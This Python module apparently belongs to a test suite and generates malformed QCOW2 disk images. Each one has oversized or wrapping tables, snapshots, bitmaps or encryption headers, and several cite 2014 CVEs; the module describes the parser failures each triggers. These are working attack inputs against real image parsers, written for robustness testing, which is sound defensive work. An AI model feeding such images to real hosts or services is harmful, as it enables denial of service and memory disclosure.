# SPDX-License-Identifier: MIT
"""Images that ask for more than there is: tables, lengths and numbers far too large."""

import struct

from images.attack import attack, changed, fields
from images.builder import COMPRESSED, EXT_CRYPTO, FIELDS, HEADER_LENGTH, MAGIC, Builder

MOST_32, MOST_64 = (1 << 32) - 1, (1 << 64) - 1


@attack("gigabytes-in-116-bytes",
        "A file of 116 bytes: 2 EiB of disk, an L1 table of 16 GiB, a refcount table of 128 TiB, "
        "2^32 - 1 snapshots.",
        "Allocates what the header says, before it looks how long the file is.", "CVE-2014-0144")
def gigabytes_in_116_bytes():
    data = bytearray(116)
    data[:4] = MAGIC
    for name, value in (("version", 3), ("cluster_bits", 16), ("virtual_size", 1 << 61),
                        ("l1_size", (1 << 31) - 1), ("l1_offset", 1 << 16),
                        ("refcount_table_offset", 2 << 16),
                        ("refcount_table_clusters", (1 << 31) - 1), ("snapshots", MOST_32),
                        ("snapshots_offset", 3 << 16), ("refcount_order", 4),
                        ("header_length", HEADER_LENGTH)):
        offset, form = FIELDS[name]
        struct.pack_into(">" + form, data, offset, value)
    return bytes(data)


# ---- tables of the header ----

fields("l1-huge", "An L1 table of 2^32 - 1 entries.",
       "Allocates 32 GiB, or multiplies by 8 in 32 bits and allocates too little.",
       "CVE-2014-0143", l1_size=MOST_32)
fields("l1-offset-wraps", "The L1 table begins 512 bytes before 2^64, and is 1024 bytes long.",
       "Adds offset and length, gets 512, and finds that it lies inside the file.",
       "CVE-2014-0144", l1_offset=MOST_64 - 511, l1_size=128)
fields("l1-offset-negative", "The L1 table begins at 2^63.",
       "Takes the offset for a negative number, which is less than the file's size.",
       "CVE-2014-0147", l1_offset=1 << 63)
fields("refcount-table-huge", "A refcount table of 2^32 - 1 clusters.",
       "Shifts the number by cluster_bits in 32 bits; the buffer is too small.", "CVE-2014-0144",
       refcount_table_clusters=MOST_32)
fields("refcount-table-offset-wraps", "The refcount table ends behind 2^64.",
       "Adds offset and length, and finds them inside the file.", "CVE-2014-0144",
       refcount_table_offset=MOST_64 - 511, refcount_table_clusters=2)
changed("refcount-block-offset-wraps", "An entry of the refcount table is 2^64 - 512.",
        "Writes a refcount at a negative offset, or runs over the end.", lambda image: image.put(
            "Q", image.refcount_table, MOST_64 - 511), "CVE-2014-0143")
changed("l2-offset-far", "An L1 entry names an L2 table at 2^55.",
        "Reads behind the end of the file and takes what was in the buffer for entries.",
        lambda image: image.put("Q", image.l1, 1 << 55))


# ---- snapshots ----

fields("snapshots-huge", "2^32 - 1 snapshots.", "Allocates their number times 80 bytes.",
       "CVE-2014-0144", snapshots=MOST_32, snapshots_offset=3 << 9)
fields("snapshots-offset-wraps", "The snapshot table begins 512 bytes before 2^64.",
       "Fails late, with half of its fields set, and frees what it never allocated.",
       "CVE-2014-0146", snapshots=8, snapshots_offset=MOST_64 - 511)
changed("snapshot-behind-end", "A snapshot's name is 65,535 bytes long; the file ends before.",
        "Copies what lies behind its buffer.", lambda image: image.add_snapshot(name_size=65535),
        "CVE-2014-0145")
changed("snapshot-extra-data-huge", "A snapshot has 2^32 - 1 bytes of extra data.",
        "Adds the length to an int, and goes back instead of forth.",
        lambda image: image.add_snapshot(extra_size=MOST_32), "CVE-2014-0143")
changed("snapshot-l1-huge", "A snapshot's L1 table has 2^32 - 1 entries.",
        "Reads it into a buffer of the size of the active L1 table.",
        lambda image: image.add_snapshot(l1_size=MOST_32), "CVE-2014-0145")


# ---- bitmaps ----

changed("directory-huge", "A bitmap directory of 2^64 - 1 bytes.",
        "Allocates it, or rounds the size up to 0.",
        lambda image: image.set_directory(size=MOST_64))
changed("directory-of-64-mib", "A bitmap directory of 64 MiB, the most that is allowed, in a "
        "small file.", "Allocates and zeros 64 MiB for every image that asks.",
        lambda image: image.set_directory(count=65535, size=65535 * 1024))
changed("directory-offset-wraps", "The bitmap directory ends behind 2^64.",
        "Adds offset and length, and finds them inside the file.",
        lambda image: image.set_directory(offset=MOST_64 - 511, size=1024))
changed("directory-entry-extra-huge", "A directory entry has 2^32 - 1 bytes of extra data.",
        "Adds lengths in 32 bits: the entry is shorter than nothing, and the loop never ends.",
        lambda image: image.set_entry(extra_size=MOST_32))
changed("bitmap-table-huge", "A bitmap's table has 2^32 - 1 entries.", "Allocates 32 GiB.",
        lambda image: image.set_entry(table_size=MOST_32))
changed("bitmap-table-offset-wraps", "A bitmap's table begins 512 bytes before 2^64.",
        "Adds offset and length, and finds them inside the file.",
        lambda image: image.set_entry(table_offset=MOST_64 - 511))
changed("bitmap-granularity-255", "A bit of a bitmap stands for 2^255 bytes.",
        "Shifts by 255, which the processor takes for 63 or 31.",
        lambda image: image.set_entry(granularity_bits=255))


@attack("bitmaps-65535-one-table",
        "65,535 bitmaps, all with the same table: 2 MiB of directory.",
        "Loads every table for every bitmap, compares every name with every other, or frees one "
        "table 65,535 times.", mebibytes=32, seconds=600)
def bitmaps_65535_one_table():
    return Builder(cluster_bits=16, names=[b"b"] + [b"%d" % i for i in range(65534)]).finish()


@attack("bitmaps-dense-one-cluster",
        "A bitmap of 512 MiB, the largest that there may be, for a disk of 2 TiB: its table has "
        "8,192 entries, which all name the same cluster.",
        "Allocates 512 MiB for a file of 640 KiB.")
def bitmaps_dense_one_cluster():
    image = Builder(cluster_bits=16, virtual_size=1 << 41)
    image.set(l1_size=4096)
    table = image.store(struct.pack(">Q", image.bits) * 8192)
    image.set_entry(table_offset=table, table_size=8192)
    return image.finish()


# ---- the disk ----

fields("disk-of-2-63-bytes", "A disk of 2^63 bytes, which needs an L1 table of 2^48 entries.",
       "Takes the size for a negative number, or provides the space.", "CVE-2014-0223",
       virtual_size=1 << 63)
fields("disk-of-2-64-1-bytes", "A disk of 2^64 - 1 bytes.",
       "Rounds it up to whole clusters, and gets 0.", "CVE-2014-0223", virtual_size=MOST_64)
fields("disk-of-no-bytes", "A disk of 0 bytes, with tables, data and a bitmap.",
       "Divides by zero, or asks for the last of no entries.", "CVE-2014-0142", virtual_size=0)
changed("compressed-absurd", "A compressed cluster of 512 bytes that takes the most sectors that "
        "can be said, at the greatest offset.", "Allocates its length, and unpacks what lies in "
        "memory behind what was read.",
        lambda image: image.put("Q", image.l2, COMPRESSED | (1 << 62) - 1), "CVE-2014-0144")


@attack("luks-header-wraps", "An encryption header at 2^64 - 512, of 1024 bytes.",
        "Adds offset and length, and reads key material from anywhere.")
def luks_header_wraps():
    image = Builder()
    image.set(crypt_method=2)
    image.add_record(EXT_CRYPTO, struct.pack(">QQ", MOST_64 - 511, 1024))
    return image.finish()
